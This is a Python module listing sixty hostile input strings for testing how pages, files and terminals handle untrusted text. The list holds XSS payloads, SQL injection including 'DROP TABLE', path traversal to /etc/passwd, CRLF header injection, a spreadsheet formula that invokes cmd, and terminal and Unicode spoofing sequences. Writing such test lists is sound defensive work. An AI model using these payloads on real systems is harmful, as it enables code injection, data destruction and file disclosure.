"""Sixty strings that break pages, files and terminals which take text for something else than text."""

RUN = "window.harmed=1"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<a href=javascript:{RUN}>open</a>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></mtext><style><img src=x onerror={RUN}></style></math>",
    f"<input autofocus onfocus={RUN}>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    "<style>@import 'http://127.0.0.1:9/x.css'</style>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<base href=http://127.0.0.1:9/>",
    f"<template><script>{RUN}</script></template>",
    "<!--<script>",
    "]]><![CDATA[",
    "&lt;script&gt;&#x3c;b&#x3e;",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"[open](javascript:{RUN})",
    f"![picture](x){{onerror={RUN}}}",
    "![beacon](http://127.0.0.1:9/x.png)",
    "vbscript:msgbox(1)",
    "//127.0.0.1:9/x.js",
)
CODE = (
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}}",
    "__proto__",
    "constructor",
    "toString",
    "' OR 1=1 --",
    '"; DROP TABLE samples; --',
    "Robert'); DELETE FROM events;--",
    "label = 'x' or true",
    "(((((((((((((((((((((((((",
    "a`b\\`c",
    "%00%0d%0aSet-Cookie:%20a=b",
    "%s%n%x{0}",
)
FILES = ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "file:///etc/passwd", "CON")
CELLS = ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", "-2+3")
SIGNS = ("\x1b[31mred\x1b[0m\x1b]0;title\x07", "\u202eexe.gpj", "a\u200b\u200d\ufeffb", "z" + "\u0301" * 40)

HOSTILE = (*MARKUP, *LINKS, *CODE, *FILES, *CELLS, *SIGNS)
